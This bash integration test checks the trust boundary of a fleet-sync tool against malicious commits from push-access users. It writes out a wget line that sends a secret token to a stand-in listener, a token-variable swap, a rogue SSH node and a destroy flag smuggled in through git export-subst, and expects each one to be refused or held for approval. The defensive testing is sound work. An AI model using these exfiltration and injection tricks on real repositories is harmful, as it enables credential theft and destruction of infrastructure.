#!/usr/bin/env bash
# fleet watch --sync's trust boundary: what a commit from anyone with push
# access cannot do by itself (the attacks of a push-access review, each made
# to fail before and pass after):
# - point the switch at a listener, or send the switch's token variable's
#   value as another (token_env: HF_TOKEN): waits for a person, nothing
#   reaches the listener;
# - a recipe reading a variable of the watch's environment that
#   --sync-allow-env does not list: refused, naming it;
# - a new node with its own key and known_hosts: waits, nothing logs in;
# - sync: {destroy: true} added by the commit that destroys, plainly and
#   through export-subst (git archive would write the commit message into
#   fleet.yaml): waits; the line is never read;
# - a person approves a waiting commit (fleet sync approve): applied;
# - with --sync-allowed-signers: an unsigned commit and one signed by
#   another key are refused, one signed by an allowed key is applied (real
#   `git commit -S` SSH signatures).
# The tokens appear in no output, log, state or listener capture.
source "$(dirname "$0")/lib.sh"
source "$(dirname "$0")/registry.sh"
source "$(dirname "$0")/sync_lib.sh"

# listen PORT FILE: a TCP listener that appends what each connection sends
# (its first 4 KiB) to FILE: a stand-in for an attacker's server.
listen() {
  python3 -c 'import os, socket, sys, time
parent = os.getppid()
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(); s.settimeout(1)
while os.getppid() == parent:
    try: c, _ = s.accept()
    except socket.timeout: continue
    c.settimeout(2)
    try: data = c.recv(4096)
    except OSError: data = b""
    with open(sys.argv[2], "ab") as f: f.write(b"connection: " + data + b"\n")
    c.close()' "$1" "$2" >/dev/null 2>&1 &
  BG_PIDS+=($!)
  disown  # killed at the test's end without a "Killed" line
}
# op_repo [MKREPO-ARGS...]: the operator rewrites fleet.yaml of $OP.
op_repo() { python3 "$ROOT/tests/integration/mkrepo.py" --sim "$SIMDIR" --out "$OP" --power "$@"; }
expect_waiting() {  # expect_waiting COMMIT TEXT: waits, naming TEXT
  wait_sync waiting "$1" 60
  [[ $(sync_detail "$1") == *"$2"* ]] || fail "the wait of $1 does not say '$2': $(sync_detail "$1")"
  [[ $(synced) != "$1" ]] || fail "$1 was recorded as synced"
}

step "2 nodes with a switch; the lab's checkout applied by hand"
start_fleet 2 --power
FLEET_SIM_HA_TOKEN=$(cat "$SIMDIR/ha_token")
HF_TOKEN=hf_sync_trust_$RANDOM$RANDOM$RANDOM
export FLEET_SIM_HA_TOKEN HF_TOKEN
init_origin
printf '.fleet/\n' >"$OP/.gitignore"
op_repo
commit_push "the lab" >/dev/null
git clone -q "$ORIGIN" "$REPO"
expect_rc 0 apply --auto-approve
assert_converged
LPORT=$(free_port)
SSHPORT=$(free_port)
listen "$LPORT" "$WORK/listener.log"
listen "$SSHPORT" "$WORK/sshd-listener.log"
start_watch

step "the switch pointed at a listener: waits for a person, nothing reaches it"
op_repo --ha-url "http://127.0.0.1:$LPORT"
C1=$(commit_push "a faster switch")
expect_waiting "$C1" "fleet.yaml:4:1: power url changes from 'http://127.0.0.1:"
[[ $(sync_detail "$C1") == *"fleet sync approve ${C1:0:12}"* ]] || fail "the wait does not say how to approve"

step "token_env swapped to HF_TOKEN: waits"
op_repo
sed -i 's/token_env: FLEET_SIM_HA_TOKEN/token_env: HF_TOKEN/' "$OP/fleet.yaml"
C2=$(commit_push "rename the token")
expect_waiting "$C2" "power token_env changes from 'FLEET_SIM_HA_TOKEN' to 'HF_TOKEN'"

step "a recipe reading a variable outside --sync-allow-env: refused, naming it"
op_repo --image 'e={"ref": "registry.invalid/e@sha256:8d13908715809a2c974703ebdef73a03f3e854ceee241693788453a614abadc3"}' \
  --deployment 'x={"recipe": "recipes/leak.toml", "nodes": ["dgx1"], "image": "e", "port": 30999}'
mkdir -p "$OP/recipes"
printf '%s\n' 'model = ""' 'args = ["sh", "-c", "wget -q -O- http://127.0.0.1/$LEAK"]' \
  '[env]' 'LEAK = {from_env = "FLEET_SIM_HA_TOKEN"}' >"$OP/recipes/leak.toml"
C3=$(commit_push "a helpful recipe")
wait_sync refused "$C3" 60
[[ $(sync_detail "$C3") == *'recipes/leak.toml: LEAK = {from_env = "FLEET_SIM_HA_TOKEN"}'* ]] ||
  fail "the refusal does not name the variable: $(sync_detail "$C3")"
rm -r "$OP/recipes"

step "a new node with its own key and known_hosts: waits, nothing logs in"
op_repo
mkdir -p "$OP/keys"
ssh-keygen -q -t ed25519 -N '' -f "$OP/keys/id" -C evil
echo "[127.0.0.1]:$SSHPORT $(cut -d' ' -f1-2 "$OP/keys/id.pub")" >"$OP/keys/known_hosts"
printf '%s\n' '  dgx9:' '    address: 127.0.0.1' \
  "    ssh: {user: evil, port: $SSHPORT, identity: keys/id, known_hosts: keys/known_hosts}" >>"$OP/fleet.yaml"
C4=$(commit_push "a spare")
expect_waiting "$C4" "the commit adds node dgx9 at '127.0.0.1'"
rm -r "$OP/keys"

step "sync: {destroy: true} through export-subst: the line is never read"
op_repo --power-off dgx2
printf '#$Format:%%n%%b$\n' >>"$OP/fleet.yaml"
printf 'fleet.yaml export-subst\n' >"$OP/.gitattributes"
C5=$(commit_push "$(printf 'spare off\n\nsync: {destroy: true}')")
# Read the bare origin, not the lab's checkout: a fetch there races the
# watch's own fetch of refs/remotes/origin/main ("cannot lock ref").
git -C "$ORIGIN" archive "$C5" fleet.yaml | tar -xO | grep -qx 'sync: {destroy: true}' ||
  fail "git archive would not have written the line: the case tests nothing"
expect_waiting "$C5" "the plan would power off node.dgx2 (sync.destroy is false)"
[[ $(sync_detail "$C5") != *"changes sync"* ]] || fail "sync read the export-subst line: $(sync_detail "$C5")"
rm "$OP/.gitattributes"

step "sync: {destroy: true} added by the commit that powers off: waits"
op_repo --power-off dgx2
printf 'sync: {destroy: true}\n' >>"$OP/fleet.yaml"
C6=$(commit_push "spare off, and let sync do it")
line=$(grep -n '^sync:' "$OP/fleet.yaml" | cut -d: -f1)
expect_waiting "$C6" "fleet.yaml:$line:1: the commit changes sync:"
[[ $("$SIM" node-status "$SIMDIR" dgx2) == on ]] || fail "dgx2 was powered off"

step "a person approves it: applied at the next round"
expect_rc 0 sync approve "${C6:0:12}"
expect_out "Approved $C6"
wait_sync applied "$C6" 60
[[ $(sync_detail "$C6") == *"approved by a person"* ]] || fail "the event does not say a person approved it"
[[ $(synced) == "$C6" ]] || fail "the approved commit is not the synced one"
[[ $("$SIM" node-status "$SIMDIR" dgx2) == off ]] || fail "dgx2 still on"
[[ $(git -C "$REPO" rev-parse HEAD) == "$C6" ]] || fail "the checkout did not move to $C6"
[[ -s $WORK/listener.log || -s $WORK/sshd-listener.log ]] &&
  fail "something reached a listener: $(cat "$WORK/listener.log" "$WORK/sshd-listener.log")"
stop_watch

step "--sync-allowed-signers: unsigned and foreign-signed refused, allowed-signed applied"
ssh-keygen -q -t ed25519 -N '' -f "$WORK/allowed" -C allowed
ssh-keygen -q -t ed25519 -N '' -f "$WORK/other" -C other
echo "test@fleet.invalid namespaces=\"git\" $(cat "$WORK/allowed.pub")" >"$WORK/allowed_signers"
start_watch --sync-allowed-signers "$WORK/allowed_signers"
echo "# unsigned" >>"$OP/fleet.yaml"
C7=$(commit_push "unsigned")
wait_sync refused "$C7" 60
[[ $(sync_detail "$C7") == *"not signed"* ]] || fail "the refusal does not say unsigned: $(sync_detail "$C7")"
git -C "$OP" config gpg.format ssh
git -C "$OP" config user.signingkey "$WORK/other"
echo "# signed by another key" >>"$OP/fleet.yaml"
C8=$(commit_push "signed by other" -S)
wait_sync refused "$C8" 60
[[ $(sync_detail "$C8") == *"not from a key this watch allows"* ]] ||
  fail "the refusal does not say the key is not allowed: $(sync_detail "$C8")"
git -C "$OP" config user.signingkey "$WORK/allowed"
echo "# signed by the allowed key" >>"$OP/fleet.yaml"
C9=$(commit_push "signed by allowed" -S)
wait_sync applied "$C9" 60
[[ $(synced) == "$C9" ]] || fail "the signed commit is not the synced one"
stop_watch

step "the plan is empty after; no token anywhere"
expect_rc 0 plan --detailed-exitcode
for f in "$WORK/watch.out" "$WORK/watch.err" "$LOG" "$(state_file)" "$WORK/transcript" \
  "$WORK/listener.log" "$WORK/sshd-listener.log"; do
  [[ -f $f ]] || continue
  ! grep -qF -e "$FLEET_SIM_HA_TOKEN" -e "$HF_TOKEN" "$f" || fail "a token in $f"
done
no_crash
echo "PASS sync_trust_test"
